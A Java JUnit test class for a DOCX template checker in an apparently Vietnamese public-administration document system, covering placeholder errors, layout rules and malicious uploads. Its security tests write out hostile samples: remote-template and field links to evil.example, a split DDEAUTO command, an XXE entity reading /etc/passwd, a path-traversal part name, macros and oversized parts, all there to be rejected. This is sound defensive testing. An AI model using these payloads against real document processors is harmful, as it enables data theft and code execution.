package vn.cchc.document;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Templates from outside: what a hand slipped on, and what somebody meant harm with. */
class TemplateCheckTest {

    private static final String XML = "<?xml version=\"1.0\"?>";

    private static byte[] file(UnaryOperator<LinkedHashMap<String, byte[]>> change) {
        var parts = new LinkedHashMap<>(Template.delivered(TemplateKind.REPORT).parts());
        return new OfficePackage(change.apply(parts)).write();
    }

    private static byte[] with(String part, UnaryOperator<String> change) {
        return file(parts -> {
            var before = new String(parts.get(part), StandardCharsets.UTF_8);
            var after = change.apply(before);
            assertTrue(!after.equals(before), "nothing was changed in " + part);
            parts.put(part, after.getBytes(StandardCharsets.UTF_8));
            return parts;
        });
    }

    private static byte[] text(String from, String to) {
        return with(OfficePackage.DOCUMENT, xml -> xml.replace(from, to));
    }

    private static byte[] plus(String part, String content) {
        return file(parts -> {
            parts.put(part, content.getBytes(StandardCharsets.UTF_8));
            return parts;
        });
    }

    private static List<String> found(byte[] docx) {
        return TemplateCheck.check(TemplateKind.REPORT, docx).stream()
                .map(finding -> finding.key().replace("document.check.", "")
                        + finding.arguments().stream()
                                .limit(1)
                                .map(argument -> " " + argument)
                                .findFirst()
                                .orElse(""))
                .toList();
    }

    @ParameterizedTest
    @EnumSource(TemplateKind.class)
    void the_templates_delivered_are_without_fault(TemplateKind kind) {
        assertEquals(
                List.of(),
                TemplateCheck.check(kind, Template.delivered(kind).file().write()));
    }

    @Test
    void every_missing_placeholder_is_named_at_once() {
        var docx = with(
                OfficePackage.DOCUMENT,
                xml -> xml.replace("{{trích yếu}}", "Trích yếu").replace("{{người ký}}", ""));
        assertEquals(List.of("missing {{trích yếu}}", "missing {{người ký}}"), found(docx));
    }

    @Test
    void a_placeholder_with_a_slip_is_named_with_those_that_exist() {
        var findings = TemplateCheck.check(TemplateKind.REPORT, text("{{nơi nhận}}", "{{nơi nhân}} {{nơi nhận}}"));
        assertEquals("document.check.unknown", findings.getFirst().key());
        assertEquals("{{nơi nhân}}", findings.getFirst().arguments().get(0));
        assertTrue(findings.getFirst().arguments().get(1).toString().contains("{{nơi nhận}}"));
        assertEquals(List.of("broken {{tên loại}", "missing {{tên loại}}"), found(text("{{tên loại}}", "{{tên loại}")));
    }

    @Test
    void letter_case_broken_runs_and_marks_apart_do_not_matter() {
        assertEquals(List.of(), found(text("{{trích yếu}}", "{{ Trích  YẾU }}")));
        assertEquals(
                List.of(),
                found(text("{{tên loại}}", "{{tên</w:t></w:r><w:proofErr w:type=\"spellEnd\"/><w:r><w:t> loại}}")));
        var apart = java.text.Normalizer.normalize("{{trích yếu}}", java.text.Normalizer.Form.NFD);
        assertEquals(List.of(), found(text("{{trích yếu}}", apart)));
    }

    @Test
    void blocks_stand_alone_once_and_on_their_side_of_the_section_break() {
        assertEquals(List.of("not-alone {{nội dung}}"), found(text("{{nội dung}}", "Sau đây: {{nội dung}}")));
        assertEquals(
                List.of("not-alone {{nội dung}}", "twice {{nội dung}}"),
                found(text("{{nơi nhận}}", "{{nơi nhận}}</w:t></w:r></w:p><w:p><w:r><w:t>{{nội dung}}")));
        assertEquals(
                List.of("only-in-appendix {{tên phụ lục}}"),
                found(text("{{tên loại}}", "{{tên loại}} {{tên phụ lục}}")));
        assertEquals(
                List.of("not-in-appendix {{tên loại}}"),
                found(text("{{tên phụ lục}}", "{{tên phụ lục}} {{tên loại}}")));
        assertEquals(
                List.of("in-margin {{nội dung}}"),
                found(with("word/header1.xml", xml -> xml.replace("<w:t>2</w:t>", "<w:t>{{nội dung}}</w:t>"))));
    }

    @Test
    void a_template_of_another_kind_is_told_what_does_not_belong() {
        var report = Template.delivered(TemplateKind.REPORT).file().write();
        assertEquals(
                List.of("document.check.not-of-this-kind", "document.check.not-of-this-kind"),
                TemplateCheck.check(TemplateKind.LETTER, report).stream()
                        .map(TemplateFinding::key)
                        .toList());
    }

    @Test
    void a_template_without_its_appendix_section_or_a_style_is_refused() {
        var one = with(OfficePackage.DOCUMENT, xml -> xml.replaceFirst("(?s)<w:sectPr>.*?</w:sectPr>(?=</w:pPr>)", ""));
        assertEquals("sections", found(one).getFirst());
        var style = with(OfficePackage.STYLES, xml -> xml.replace("VB Đề mục 1", "Heading 9"));
        assertEquals(List.of("problem.document.style-missing VB Đề mục 1"), found(style));
    }

    @Test
    void what_leaves_the_decree_is_said_and_not_refused() {
        var findings = TemplateCheck.check(
                TemplateKind.REPORT,
                text(
                        "w:right=\"1134\" w:bottom=\"1134\" w:left=\"1701\"",
                        "w:right=\"567\" w:bottom=\"1134\" w:left=\"1701\""));
        assertTrue(findings.stream().noneMatch(TemplateFinding::error));
        assertEquals("document.check.margin-right", findings.getFirst().key());
        assertEquals(List.of(10, 15, 20), findings.getFirst().arguments());
    }

    @Test
    void a_file_that_word_saved_without_footnotes_gets_them_back() {
        var docx = file(parts -> {
            parts.remove(OfficePackage.FOOTNOTES);
            parts.computeIfPresent(OfficePackage.TYPES, (name, xml) -> without(xml, "<Override [^>]*footnotes[^>]*>"));
            parts.computeIfPresent(
                    OfficePackage.RELATIONS, (name, xml) -> without(xml, "<Relationship [^>]*footnotes[^>]*>"));
            return parts;
        });
        assertEquals(List.of(), found(docx));
        var written = DocxText.of(
                Composer.compose(Template.read(TemplateKind.REPORT, docx), DocumentsTest.report(List.of())));
        assertEquals(2, written.footnotes().size());
    }

    private static byte[] without(byte[] xml, String pattern) {
        return new String(xml, StandardCharsets.UTF_8).replaceFirst(pattern, "").getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void macros_embedded_things_and_strange_parts_are_refused() {
        assertEquals(List.of("macros word/vbaProject.bin"), found(plus("word/vbaProject.bin", "x")));
        assertEquals(
                List.of("foreign-part word/embeddings/oleObject1.bin"),
                found(plus("word/embeddings/oleObject1.bin", "x")));
        assertEquals(List.of("foreign-part word/afchunk.mht"), found(plus("word/afchunk.mht", "x")));
        assertEquals(
                List.of("foreign-part word/activeX/activeX1.xml"), found(plus("word/activeX/activeX1.xml", "<a/>")));
        assertEquals(List.of("foreign-part ../../etc/x"), found(plus("../../etc/x", "x")));
        assertEquals(List.of("comments"), found(plus("word/comments.xml", "<a/>")));
        assertEquals(
                List.of("macros /word/document.xml", "kind"),
                found(with(
                                OfficePackage.TYPES,
                                xml -> xml.replace(
                                        "openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                        "ms-word.document.macroEnabled.main+xml")))
                        .stream()
                        .map(s -> s)
                        .toList());
        assertEquals(
                List.of("kind"),
                found(with(OfficePackage.TYPES, xml -> xml.replace("document.main+xml", "template.main+xml"))));
    }

    @Test
    void links_out_of_the_file_are_refused_with_where_they_lead() {
        var relation =
                "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\""
                        + " Target=\"http://evil.example/x\" TargetMode=\"External\"/></Relationships>";
        for (var type : List.of("hyperlink", "image", "attachedTemplate", "oleObject", "frame")) {
            assertEquals(
                    List.of("outside http://evil.example/x"),
                    found(with(
                            OfficePackage.RELATIONS, xml -> xml.replace("</Relationships>", relation.formatted(type)))),
                    type);
        }
        var settings = XML + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + relation.formatted("attachedTemplate");
        assertEquals(List.of("outside http://evil.example/x"), found(plus("word/_rels/settings.xml.rels", settings)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:fldSimple w:instr=\" INCLUDETEXT &quot;\\\\\\\\evil\\\\x&quot; \"/>",
                "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>",
                "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>INCLUDEPICTURE http://evil.example/a.png</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
            })
    void fields_that_fetch_are_refused_even_in_pieces(String field) {
        var docx = text(
                "<w:r><w:t xml:space=\"preserve\">{{nội dung}}",
                field + "<w:r><w:t xml:space=\"preserve\">{{nội dung}}");
        assertTrue(found(docx).getFirst().startsWith("field "), found(docx).toString());
    }

    @Test
    void objects_tracked_changes_and_pieces_of_other_files_are_refused() {
        assertEquals(
                List.of("foreign-object altChunk"), found(text("<w:body>", "<w:body><w:altChunk r:id=\"rId9\"/>")));
        assertEquals(
                List.of("tracked"),
                found(text("<w:body>", "<w:body><w:p><w:ins w:id=\"1\"><w:r><w:t>x</w:t></w:r></w:ins></w:p>")));
    }

    @Test
    void entities_are_not_read() {
        var bomb = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
        var docx = with(
                OfficePackage.DOCUMENT,
                xml -> xml.replace("<w:document ", bomb + "<w:document ").replace("{{tên loại}}", "&x;"));
        assertEquals(List.of("problem.document.damaged-part word/document.xml"), found(docx));
    }

    @Test
    void letters_that_are_no_utf_8_and_trees_too_deep_are_damage() {
        var bytes = file(parts -> {
            parts.put(OfficePackage.STYLES, new byte[] {'<', 'a', '>', (byte) 0xff, (byte) 0xfe, '<', '/', 'a', '>'});
            return parts;
        });
        assertEquals(List.of("problem.document.damaged-part word/styles.xml"), found(bytes));
        var deep = text("<w:body>", "<w:body>" + "<w:p>".repeat(20_000) + "</w:p>".repeat(20_000));
        assertEquals(List.of("problem.document.damaged-part word/document.xml"), found(deep));
    }

    @Test
    void what_is_no_docx_a_bomb_or_cut_off_is_refused_in_words() {
        assertEquals(List.of("problem.document.not-docx"), found("hello".getBytes(StandardCharsets.UTF_8)));
        assertEquals(List.of("problem.document.not-docx"), found(new byte[0]));
        var whole = Template.delivered(TemplateKind.REPORT).file().write();
        assertEquals(List.of("problem.document.not-docx"), found(java.util.Arrays.copyOf(whole, whole.length / 3)));
        assertEquals(
                "problem.document.too-much 400",
                found(plus("word/media/a.png", "0".repeat(21 << 20))).getFirst());
    }

    @Test
    void changed_looks_reach_the_documents() {
        var docx = with(
                OfficePackage.STYLES,
                xml -> xml.replace(
                                "<w:name w:val=\"VB Nội dung\"/>",
                                "<w:name w:val=\"VB Nội dung\"/><w:rsid w:val=\"1\"/>")
                        .replace("<w:ind w:firstLine=\"720\"/>", "<w:ind w:firstLine=\"567\"/>"));
        var written = DocxText.of(
                Composer.compose(Template.read(TemplateKind.REPORT, docx), DocumentsTest.report(List.of())));
        assertEquals(567, written.paragraph("Ủy ban nhân dân tỉnh ban hành").firstLine());
    }
}
